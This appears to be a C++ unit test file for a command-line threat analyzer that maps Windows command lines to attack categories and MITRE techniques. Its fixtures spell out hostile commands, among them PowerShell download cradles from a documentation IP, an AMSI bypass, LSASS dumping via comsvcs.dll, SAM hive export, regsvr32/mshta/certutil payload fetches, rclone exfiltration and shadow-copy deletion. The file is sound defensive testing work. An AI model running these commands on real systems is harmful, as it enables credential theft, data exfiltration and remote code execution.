// Analyzer: one row per SPEC §6 category, the sample case, benign admin lines, the JSON
// contract, and custom patterns/allowlist stored through patternstore::.
#include "cmdline/commandlineanalyzer.h"
#include "cmdlinetestdata.h"
#include "core/jsonutil.h"
#include "store/patternstore.h"
#include "testutils.h"

#include <QFile>
#include <QTest>

#include <nlohmann/json.hpp>

using namespace causa;
using test::analyzer;
using test::describe;
using test::findCategory;

namespace {

QString s(const char *c)
{
    return QString::fromUtf8(c);
}

QString sampleCommandLine(const QString &alertId)
{
    QFile f(test::sourceDir() + QStringLiteral("/resources/samples/fin-ws-042-incident.json"));
    if (!f.open(QIODevice::ReadOnly))
        return {};
    const auto doc = nlohmann::json::parse(f.readAll().toStdString(), nullptr, false);
    QString found;
    std::function<void(const nlohmann::json &)> walk = [&](const nlohmann::json &j) {
        if (j.is_object()) {
            if (js::str(j, "alert_id") == alertId &&
                j.contains("action_process_image_command_line"))
                found = js::str(j, "action_process_image_command_line");
            for (const auto &v : j)
                walk(v);
        } else if (j.is_array()) {
            for (const auto &v : j)
                walk(v);
        }
    };
    walk(doc);
    return found;
}

} // namespace

class TestCmdlineAnalyzer : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void categories_data();
    void categories();
    void sampleCaseAmsiCradle();
    void sampleCaseComsvcsDump();
    void benignAdminLines_data();
    void benignAdminLines();
    void jsonContract();
    void xsoarParity_data();
    void xsoarParity();
    void indicatorsAsWritten_data();
    void indicatorsAsWritten();
    void contributionsAddUp();
    void customPatternsAndAllowlist();
};

void TestCmdlineAnalyzer::initTestCase()
{
    QVERIFY2(analyzer().loadError().isEmpty(), qPrintable(analyzer().loadError()));
    QVERIFY(analyzer().knowledge()->lolbinCount() >= 150);
    QVERIFY(!analyzer().knowledge()->techniqueName(QStringLiteral("T1218.011")).isEmpty());
}

void TestCmdlineAnalyzer::categories_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("category");
    QTest::addColumn<QString>("mitrePrefix");
    QTest::addColumn<QString>("minVerdict");

    QTest::newRow("base64") << s("powershell -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A")
                            << "base64"
                            << "T1027"
                            << "benign";
    QTest::newRow("double_encoding")
        << s("powershell -enc cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABWAHcAQgB5AEEARwBrAEEAZABBAEIAbABBAEMAMABBAFQAdwBCADEAQQBIAFEAQQBjAEEAQgAxAEEASABRAEEASQBBAEIAdQBBAEcAVQBBAGMAdwBCADAAQQBHAFUAQQBaAEEAQQA9AA==")
        << "double_encoding"
        << "T1027"
        << "suspicious";
    QTest::newRow("compressed_payload")
        << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('H4sIAAAAAAACAwsvyixJ1fUvLSkoLVFIr8osKEhNUShIrMzJT0wBAGw1Y1IcAAAA'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
        << "compressed_payload"
        << "T1027"
        << "malicious";
    QTest::newRow("reversed_string")
        << s("powershell -c \"$u=('gnirtSdaolnwoD'[-1..-14] -join '')\"") << "reversed_string"
        << "T1027"
        << "suspicious";
    QTest::newRow("string_obfuscation")
        << s("powershell -c \"I`E`X (N`ew-Ob`ject Net.WebClient)\"") << "string_obfuscation"
        << "T1027"
        << "suspicious";
    QTest::newRow("obfuscated_ip")
        << s("powershell iwr http://0xB9DC652A:8080/a.ps1 -OutFile a.ps1") << "obfuscated_ip"
        << "T1027"
        << "suspicious";
    QTest::newRow("amsi_bypass")
        << s("powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"")
        << "amsi_bypass"
        << "T1562.001"
        << "malicious";
    QTest::newRow("download_cradle")
        << s("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"")
        << "download_cradle"
        << "T1059.001"
        << "malicious";
    QTest::newRow("suspicious_parameters")
        << s("powershell.exe -w hidden -nop -ep bypass -c Get-Date") << "suspicious_parameters"
        << "T1"
        << "benign";
    QTest::newRow("offensive_tool")
        << s("powershell -c \"Invoke-Mimikatz -DumpCreds\"") << "offensive_tool"
        << "T1588"
        << "malicious";
    QTest::newRow("credential_access")
        << s("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full")
        << "credential_access"
        << "T1003.001"
        << "malicious";
    QTest::newRow("credential_access reg save")
        << s("reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv") << "credential_access"
        << "T1003.002"
        << "malicious";
    QTest::newRow("reconnaissance") << s("nltest /domain_trusts /all_trusts") << "reconnaissance"
                                    << "T1482"
                                    << "suspicious";
    QTest::newRow("lateral_movement")
        << s("wmic /node:10.1.2.3 process call create \"cmd /c whoami > C:\\out.txt\"")
        << "lateral_movement"
        << "T1047"
        << "malicious";
    QTest::newRow("persistence")
        << s("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe")
        << "persistence"
        << "T1547.001"
        << "suspicious";
    QTest::newRow("defense_evasion")
        << s("vssadmin.exe delete shadows /all /quiet") << "defense_evasion"
        << "T1490"
        << "malicious";
    QTest::newRow("exfiltration")
        << s("rclone.exe copy C:\\Finance remote:exfil-bucket --transfers 8") << "exfiltration"
        << "T1567"
        << "malicious";
    QTest::newRow("lolbin_proxy_execution regsvr32 scrobj")
        << s("regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll")
        << "lolbin_proxy_execution"
        << "T1218.010"
        << "malicious";
    QTest::newRow("lolbin_proxy_execution mshta javascript")
        << s("mshta.exe javascript:a=GetObject(\"script:http://203.0.113.7/x.sct\").Exec();close();")
        << "lolbin_proxy_execution"
        << "T1218.005"
        << "malicious";
    QTest::newRow("lolbin_proxy_execution certutil urlcache")
        << s("certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe")
        << "lolbin_proxy_execution"
        << "T1105"
        << "malicious";
    // A protocol handler is named with ':' after it, which the program-name rule refuses for
    // switches (/node:); the catalogue entry matches the word instead.
    QTest::newRow("lolbin_proxy_execution ms-appinstaller protocol")
        << s("start ms-appinstaller://?source=http://203.0.113.50/payload.exe")
        << "lolbin_proxy_execution"
        << "T1105"
        << "suspicious";
    QTest::newRow("dynamic_code_execution")
        << s("powershell -c \"[scriptblock]::Create($env:X).Invoke()\"") << "dynamic_code_execution"
        << "T1059.001"
        << "suspicious";
    QTest::newRow("process_injection")
        << s("powershell -c \"$m=[K32]::VirtualAlloc(0,4096,0x3000,0x40);[K32]::CreateThread(0,0,$m,0,0,0)\"")
        << "process_injection"
        << "T1055"
        << "malicious";
    QTest::newRow("temp_path") << s("cmd /c copy a.exe C:\\Windows\\Temp\\a.exe") << "temp_path"
                               << "T1074"
                               << "benign";
    QTest::newRow("mixed_case_powershell")
        << s("poWerSheLl.eXe -c Get-Date") << "mixed_case_powershell"
        << "T1027"
        << "benign";
    QTest::newRow("indicators") << s("ping -n 1 185.220.101.42") << "indicators"
                                << "T1071"
                                << "benign";
}

void TestCmdlineAnalyzer::categories()
{
    QFETCH(QString, line);
    QFETCH(QString, category);
    QFETCH(QString, mitrePrefix);
    QFETCH(QString, minVerdict);
    const AnalysisResult r = analyzer().analyze(line);
    const Finding *f = findCategory(r, category);
    QVERIFY2(f, qPrintable(describe(r)));
    QVERIFY2(f->mitre.startsWith(mitrePrefix), qPrintable(f->mitre));
    QVERIFY(!f->tactic.isEmpty());
    QVERIFY(f->weight > 0);
    const QStringList order = {QStringLiteral("benign"), QStringLiteral("suspicious"),
                               QStringLiteral("malicious")};
    QVERIFY2(order.indexOf(r.verdict) >= order.indexOf(minVerdict), qPrintable(describe(r)));
}

void TestCmdlineAnalyzer::sampleCaseAmsiCradle()
{
    const QString line = sampleCommandLine(QStringLiteral("31337"));
    QVERIFY(!line.isEmpty());
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.verdict, QStringLiteral("malicious"));
    QVERIFY2(findCategory(r, QStringLiteral("amsi_bypass")), qPrintable(describe(r)));
    QVERIFY2(findCategory(r, QStringLiteral("download_cradle")), qPrintable(describe(r)));
    QVERIFY2(findCategory(r, QStringLiteral("obfuscated_ip")), qPrintable(describe(r)));
    QCOMPARE(r.layers.first().transform, QStringLiteral("base64-utf16le"));
    bool ip = false;
    for (const ExtractedIndicator &i : r.indicators)
        if (i.type == QLatin1String("ipv4") && i.value == QLatin1String("185.220.101.42") &&
            i.asWritten == QLatin1String("0xB9DC652A") && !i.internal)
            ip = true;
    QVERIFY(ip);
    QVERIFY(r.flags.amsi && r.flags.base64 && r.flags.networkActivity && r.flags.foundIndicators);
    QVERIFY(r.decoded.contains(QLatin1String("185.220.101.42")));
    // The parity scheme sees the same categories but scores lower: the reason Causa has its own.
    QVERIFY(r.xsoarScore <= r.score);
}

void TestCmdlineAnalyzer::sampleCaseComsvcsDump()
{
    const QString line = sampleCommandLine(QStringLiteral("31338"));
    QVERIFY(line.contains(QLatin1String("comsvcs")));
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.verdict, QStringLiteral("malicious"));
    const Finding *f = findCategory(r, QStringLiteral("credential_access"));
    QVERIFY2(f, qPrintable(describe(r)));
    QCOMPARE(f->mitre, QStringLiteral("T1003.001"));
    QVERIFY(r.flags.maliciousTools);
    QVERIFY(r.flags.suspiciousLolbinExecution);
    QVERIFY(r.lolbins.contains(QStringLiteral("Rundll32.exe")));
    QVERIFY(r.lolbins.contains(QStringLiteral("Comsvcs.dll")));
}

void TestCmdlineAnalyzer::benignAdminLines_data()
{
    QTest::addColumn<QString>("line");
    const char *lines[] = {
        "msiexec /i \"C:\\Install\\AcroRead.msi\" /qn /norestart",
        "msiexec /x {23170F69-40C1-2702-1900-000001000000} /qn",
        "msiexec /i \\\\fileserver\\deploy\\7zip.msi /qn ALLUSERS=1",
        "gpupdate /force",
        "gpupdate /target:computer /force",
        "sc query wuauserv",
        "sc queryex type= service state= all",
        "sc config wuauserv start= auto",
        "certutil -store My",
        "certutil -verify -urlfetch C:\\certs\\server.cer",
        "certutil -hashfile C:\\Windows\\System32\\notepad.exe SHA256",
        "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -Scan -ScanType 1",
        "MpCmdRun.exe -SignatureUpdate",
        "schtasks /query /fo LIST /v",
        "schtasks /run /tn \"\\Microsoft\\Windows\\Defrag\\ScheduledDefrag\"",
        "wmic logicaldisk get size,freespace,caption",
        "wmic os get caption,version",
        "ipconfig /flushdns",
        "netsh interface ip show config",
        "net use Z: \\\\fileserver\\shared /persistent:yes",
        "robocopy C:\\Data \\\\backup01\\data /MIR /R:2 /W:5 /LOG:C:\\Logs\\robocopy.log",
        "xcopy C:\\Reports \\\\fileserver\\reports /E /I /Y",
        "tasklist /svc",
        "systeminfo",
        "whoami",
        "hostname",
        "ping -n 4 10.0.0.1",
        "nslookup intranet.corp.local",
        "tracert 8.8.8.8",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\scripts\\inventory.ps1\"",
        "powershell -Command \"Get-Service | Where-Object {$_.Status -eq 'Running'}\"",
        "powershell.exe -ExecutionPolicy RemoteSigned -Command \"Get-WindowsUpdateLog\"",
        "powershell Get-EventLog -LogName System -Newest 50",
        "dism /online /cleanup-image /restorehealth",
        "sfc /scannow",
        "chkdsk C: /scan",
        "bcdedit /enum",
        "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\" /s",
        "wevtutil qe System /c:10 /f:text",
        "wusa.exe C:\\Updates\\windows10.0-kb5005565-x64.msu /quiet /norestart",
        "net localgroup administrators",
        "net user jdoe /domain",
        "klist purge",
        "vssadmin list shadows",
        "fsutil volume diskfree C:",
        "icacls \"C:\\Shares\\Finance\" /grant \"CORP\\Finance\":(OI)(CI)M",
        "shutdown /r /t 0",
        "cmd /c \"echo %DATE% %TIME% >> C:\\Logs\\heartbeat.log\"",
        "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\printsrv01\\HP-Floor3",
        "rundll32.exe user32.dll,LockWorkStation",
        "control.exe /name Microsoft.WindowsUpdate",
        "mmc.exe C:\\Windows\\system32\\compmgmt.msc",
        "explorer.exe C:\\Users\\jdoe\\Documents",
        "certreq -submit -config \"CA01\\Corp-CA\" request.req cert.cer",
        "bitsadmin /list /allusers",
        "netstat -ano",
        "quser",
        "nltest /sc_query:CORP",
        "powershell -Command \"Get-ADUser -Identity jdoe -Properties *\"",
        "winget upgrade --all",
        "\"C:\\Windows\\system32\\cmd.exe\" /c ver",
        "curl.exe -I https://www.microsoft.com",
        "git clone https://github.com/contoso/tools.git",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
        "osascript -e 'display notification \"Backup done\"'",
    };
    for (const char *l : lines)
        QTest::newRow(l) << s(l);
}

void TestCmdlineAnalyzer::benignAdminLines()
{
    QFETCH(QString, line);
    const AnalysisResult r = analyzer().analyze(line);
    QVERIFY2(r.verdict == QLatin1String("benign"), qPrintable(describe(r)));
    QVERIFY(r.flags.amsi == false && r.flags.maliciousTools == false && r.flags.base64 == false);
}

void TestCmdlineAnalyzer::jsonContract()
{
    const AnalysisResult r = analyzer().analyze(sampleCommandLine(QStringLiteral("31337")));
    const nlohmann::json j = toJson(r);
    std::vector<std::string> keys;
    for (auto it = j.begin(); it != j.end(); ++it)
        keys.push_back(it.key());
    std::sort(keys.begin(), keys.end());
    const std::vector<std::string> expected = {
        "command_line", "decoded", "findings", "flags",   "indicators", "layers",
        "lolbins",      "risk",    "score",    "verdict", "xsoar_risk", "xsoar_score"};
    QCOMPARE(keys, expected);
    std::vector<std::string> flagKeys;
    for (auto it = j["flags"].begin(); it != j["flags"].end(); ++it)
        flagKeys.push_back(it.key());
    std::sort(flagKeys.begin(), flagKeys.end());
    QCOMPARE(flagKeys, (std::vector<std::string>{"AMSI", "SuspiciousLolbinExecution", "base64",
                                                 "foundIndicators", "maliciousTools",
                                                 "networkActivity", "suspiciousParameters"}));
    const auto &layer = j["layers"][0];
    QCOMPARE(layer["transform"].get<std::string>(), std::string("base64-utf16le"));
    QVERIFY(layer["span"].is_array() && layer["span"].size() == 2);
    QVERIFY(layer["text"].is_string());
    for (const auto &f : j["findings"]) {
        for (const char *k : {"category", "match", "layer", "span", "mitre", "tactic", "weight"})
            QVERIFY2(f.contains(k), k);
    }
    for (const auto &i : j["indicators"])
        for (const char *k : {"type", "value", "as_written"})
            QVERIFY2(i.contains(k), k);
    const std::string verdict = j["verdict"].get<std::string>();
    QVERIFY(verdict == "benign" || verdict == "suspicious" || verdict == "malicious");
    const std::string risk = j["risk"].get<std::string>();
    QVERIFY(risk == "Low" || risk == "Medium" || risk == "High" || risk == "Critical");
}

void TestCmdlineAnalyzer::xsoarParity_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<int>("xsoarScore");
    // amsi (35) alone: 35/120 -> 29
    QTest::newRow("one 35-point category")
        << s("powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\"")
        << 29;
    // nothing fires
    QTest::newRow("nothing") << s("sc query wuauserv") << 0;
    // osascript -e is not an encoded command (an XSOAR defect, fixed)
    QTest::newRow("osascript -e") << s("osascript -e 'display dialog \"hi\"'") << 0;
}

void TestCmdlineAnalyzer::xsoarParity()
{
    QFETCH(QString, line);
    QFETCH(int, xsoarScore);
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.xsoarScore, xsoarScore);
    // One unmistakable technique alone never reaches High in the parity scheme; Causa's own
    // score calls it malicious.
    if (xsoarScore > 0) {
        QCOMPARE(r.xsoarRisk, QStringLiteral("Medium"));
        QCOMPARE(r.verdict, QStringLiteral("malicious"));
    }
}

void TestCmdlineAnalyzer::indicatorsAsWritten_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("type");
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("asWritten");
    QTest::addColumn<bool>("internal");
    QTest::newRow("hex ip in url") << s("iwr http://0xB9DC652A/x") << "ipv4"
                                   << "185.220.101.42"
                                   << "0xB9DC652A" << false;
    QTest::newRow("decimal ip in url") << s("iwr http://3232235786/x") << "ipv4"
                                       << "192.168.1.10"
                                       << "3232235786" << true;
    QTest::newRow("defanged url") << s("see hxxp://evil[.]example[.]ru/a.exe") << "url"
                                  << "http://evil.example.ru/a.exe"
                                  << "hxxp://evil[.]example[.]ru/a.exe" << false;
    QTest::newRow("defanged domain") << s("nslookup evil[.]example[.]ru") << "domain"
                                     << "evil.example.ru"
                                     << "evil[.]example[.]ru" << false;
    QTest::newRow("plain ipv4") << s("ping 185.220.101.42") << "ipv4"
                                << "185.220.101.42"
                                << "185.220.101.42" << false;
    QTest::newRow("private ipv4") << s("ping 10.1.2.3") << "ipv4"
                                  << "10.1.2.3"
                                  << "10.1.2.3" << true;
    QTest::newRow("sha256")
        << s("certutil -hashfile x SHA256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")
        << "sha256"
        << "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        << "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855" << false;
    QTest::newRow("unc path") << s("copy x.exe \\\\10.0.0.5\\c$\\x.exe") << "path"
                              << "\\\\10.0.0.5\\c$\\x.exe"
                              << "\\\\10.0.0.5\\c$\\x.exe" << true;
    QTest::newRow("user switch") << s("runas /user:CORP\\admin cmd") << "user"
                                 << "corp\\admin"
                                 << "CORP\\admin" << false;
    QTest::newRow("net user") << s("net user backdoor P@ss /add") << "user"
                              << "backdoor"
                              << "backdoor" << false;
}

void TestCmdlineAnalyzer::indicatorsAsWritten()
{
    QFETCH(QString, line);
    QFETCH(QString, type);
    QFETCH(QString, value);
    QFETCH(QString, asWritten);
    QFETCH(bool, internal);
    const AnalysisResult r = analyzer().analyze(line);
    QString all;
    for (const ExtractedIndicator &i : r.indicators) {
        all += i.type + QLatin1Char('=') + i.value + QLatin1Char('(') + i.asWritten +
               QStringLiteral(") ");
        if (i.type == type && i.value == value) {
            QCOMPARE(i.asWritten, asWritten);
            QCOMPARE(i.internal, internal);
            return;
        }
    }
    QFAIL(qPrintable(all));
}

void TestCmdlineAnalyzer::contributionsAddUp()
{
    const AnalysisResult r = analyzer().analyze(sampleCommandLine(QStringLiteral("31337")));
    int sum = 0;
    for (const Finding &f : r.findings) {
        QVERIFY(f.contribution >= 0);
        sum += f.contribution;
    }
    QCOMPARE(sum, r.score);
}

void TestCmdlineAnalyzer::customPatternsAndAllowlist()
{
    test::TempStore temp;
    const QString line = s("C:\\Tools\\contoso-agent.exe --sync-beacon acme-internal");
    CommandLineAnalyzer custom;
    QCOMPARE(custom.analyze(line).verdict, QStringLiteral("benign"));

    CustomRule rule;
    rule.kind = QStringLiteral("pattern");
    rule.name = QStringLiteral("beacon flag");
    rule.pattern = QStringLiteral("--sync-beacon && contoso-agent");
    rule.category = QStringLiteral("offensive_tool");
    rule.weight = 60;
    auto saved = patternstore::save(temp.store(), rule, QStringLiteral("alice"));
    QVERIFY2(saved, saved ? "" : qPrintable(saved.error().toString()));
    QCOMPARE(saved->rule.version, 1);
    rule.weight = 70;
    auto v2 = patternstore::save(temp.store(), rule, QStringLiteral("bob"));
    QVERIFY(v2);
    QCOMPARE(v2->rule.version, 2);

    auto all = patternstore::list(temp.store(), false);
    QVERIFY(all);
    QCOMPARE(all->size(), 2);
    auto active = patternstore::activeRules(temp.store());
    QVERIFY(active);
    QCOMPARE(active->size(), 1);
    QCOMPARE(active->first().weight, 70);

    custom.setCustomRules(active.value());
    AnalysisResult r = custom.analyze(line);
    QVERIFY2(r.verdict == QLatin1String("malicious"), qPrintable(describe(r)));
    bool found = false;
    for (const Finding &f : r.findings)
        found = found || f.rule == QLatin1String("custom:beacon flag:v2");
    QVERIFY(found);

    // An allowlist entry discounts what it covers; the findings stay visible with a note.
    CustomRule allow;
    allow.kind = QStringLiteral("allowlist");
    allow.name = QStringLiteral("contoso agent");
    allow.pattern = QStringLiteral("c:\\tools\\contoso-agent.exe");
    QVERIFY(patternstore::save(temp.store(), allow, QStringLiteral("alice")));
    custom.setCustomRules(patternstore::activeRules(temp.store()).value());
    r = custom.analyze(line);
    QVERIFY2(r.verdict == QLatin1String("benign"), qPrintable(describe(r)));
    QVERIFY(!r.findings.isEmpty());
    QVERIFY(r.findings.first().note.contains(QLatin1String("allowlisted")));

    QVERIFY(patternstore::retire(temp.store(), QStringLiteral("pattern"),
                                 QStringLiteral("beacon flag")));
    QCOMPARE(patternstore::activeRules(temp.store())->size(), 1);
    QVERIFY(!patternstore::save(
        temp.store(),
        CustomRule{QStringLiteral("bogus"), QStringLiteral("x"), QStringLiteral("y"), {}, 0, 1},
        {}));
}

// Each rule added for issue 19 (tests/fixtures/cmdline): a line it must now catch.
QTEST_GUILESS_MAIN(TestCmdlineAnalyzer)
#include "tst_cmdlineanalyzer.moc"
